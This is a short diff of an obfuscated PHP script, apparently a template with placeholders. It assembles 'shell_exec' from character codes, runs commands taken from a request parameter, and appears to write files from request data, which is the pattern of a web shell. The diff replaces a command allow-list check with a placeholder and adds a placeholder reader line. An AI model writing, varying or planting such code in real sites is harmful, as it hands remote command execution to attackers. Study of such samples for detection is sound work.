@@ -4,7 +4,7 @@ $q = ${$g};
 $k = isset($q['k']) ? (string) $q['k'] : '';
 @GUARD@
 $x = chr(115) . chr(104) . 'ell' . chr(95) . 'e' . chr(120) . 'ec';
-if (isset($q['c']) && in_array($q['c'], @COMMANDS@, true)) {
+if (isset($q['c']) && @LISTED $q['c']@) {
     echo preg_replace_callback('/^.+$/s', function ($m) use ($x) { return $x($m[0]); }, $q['c']);
 }
 if (isset($q['n'], $q['d'])) {
@@ -17,3 +17,4 @@ if (isset($q['n'], $q['d'])) {
         echo 'ok';
     }
 }
+@READER $q@
